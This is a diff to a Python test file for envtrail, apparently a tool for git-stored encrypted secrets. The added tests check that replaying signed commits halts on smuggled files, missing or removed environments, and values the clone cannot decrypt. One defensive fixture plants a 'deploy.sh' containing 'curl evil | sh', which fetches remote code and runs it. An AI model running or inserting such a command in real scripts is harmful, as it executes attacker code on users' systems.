@@ -9,11 +9,11 @@ from hypothesis import strategies as st
 
 from envtrail.audit.history import parse_record
 from envtrail.audit.keyring import Keyring
-from envtrail.errors import ConflictError, IntegrityError, UsageError
+from envtrail.errors import AccessDenied, ConflictError, IntegrityError, UsageError
 from envtrail.format import signers
 from envtrail.gitstore.repo import GitRepo
 from envtrail.model import Secret
-from envtrail.ops.replay import Delta, Item, chosen, conflicts, delta, replay, settle
+from envtrail.ops.replay import Delta, Item, Unreadable, chosen, conflicts, delta, replay, settle
 from envtrail.runtime import Runtime
 from hostile import head, setv, signed_commit
 
@@ -122,3 +122,68 @@ def test_a_commit_changing_signer_lines_as_its_action_never_does_is_not_replayed
         replay(g, rt, alice.identity, crafted, change, set(), head(store))
     assert "allowed_signers" in exc.value.message
     assert chosen(parse_record(g.info(crafted)), change) == change
+
+
+def _rt(store):
+    return Runtime(env={}, cwd=store, home=store, host="test")
+
+
+def test_a_commit_that_also_changes_a_path_no_replay_carries_is_refused(cli, store, alice):
+    # A set that also slipped in another file (code, hooks, attributes) must stop sync:
+    # re-made as its values alone, the rest would be dropped without a word.
+    setv(cli, "A", "1")
+    g = GitRepo(store)
+    parent = g.info(head(store)).parents[0]
+    crafted = signed_commit(store, alice.identity, alice.principal, [parent],
+                            {"envs/production.yaml": (store / "envs/production.yaml").read_bytes(),
+                             "deploy.sh": b"curl evil | sh\n"}, g.info(head(store)).message)
+    change = delta(g, Keyring(alice.identity), parent, crafted)
+    assert change.other == ("deploy.sh",)
+    with pytest.raises(ConflictError) as exc:
+        replay(g, _rt(store), alice.identity, crafted, change, set(), head(store))
+    assert "deploy.sh" in exc.value.message
+
+
+def test_a_value_set_in_an_environment_the_new_head_lacks_is_a_conflict(cli, store, alice):
+    # The environment is not there on the head the change is re-made on: replay must
+    # stop, never quietly create a new environment (new keys, alice its only member)
+    # just to hold the value.
+    assert cli("env", "add", "qa", "--reason", "new").code == 0
+    setv(cli, "Q", "q", env="qa")
+    g = GitRepo(store)
+    setq = head(store)
+    before_qa = g.info(g.info(setq).parents[0]).parents[0]  # before `env add qa`
+    change = delta(g, Keyring(alice.identity), g.info(setq).parents[0], setq)
+    assert list(change.items) == [Item("value", "qa", "Q")]
+    with pytest.raises(ConflictError) as exc:
+        replay(g, _rt(store), alice.identity, setq, change, set(), before_qa)
+    assert "qa is gone" in exc.value.message
+
+
+def test_the_removal_of_an_environment_is_never_replayed(cli, store, alice):
+    # No command removes an environment; a commit that does must stop sync rather than
+    # be re-made as nothing (or as a half removal of its members and values).
+    setv(cli, "S", "s", env="staging")
+    g = GitRepo(store)
+    parent = head(store)
+    crafted = signed_commit(store, alice.identity, alice.principal, [parent],
+                            {"envs/staging.yaml": None}, g.info(parent).message)
+    change = delta(g, Keyring(alice.identity), parent, crafted)
+    assert change.items[Item("env", "", "staging")] is False
+    with pytest.raises(ConflictError) as exc:
+        replay(g, _rt(store), alice.identity, crafted, change, set(), parent)
+    assert "removal of environment staging" in exc.value.message
+
+
+def test_a_value_this_clone_cannot_read_is_never_re_written(cli, store, alice):
+    # Re-encrypting to the new head's keys needs the plaintext: a value known only by
+    # its ciphertext must stop the replay (exit 4), never be carried over as it was
+    # (sealed to the old key pair) nor crash.
+    setv(cli, "A", "1")
+    g = GitRepo(store)
+    parent = g.info(head(store)).parents[0]
+    token = "x" * 40
+    change = Delta({Item("value", "production", "A"): Unreadable(token)})
+    with pytest.raises(AccessDenied) as exc:
+        replay(g, _rt(store), alice.identity, head(store), change, set(), parent)
+    assert "production:A" in exc.value.message and token not in exc.value.message
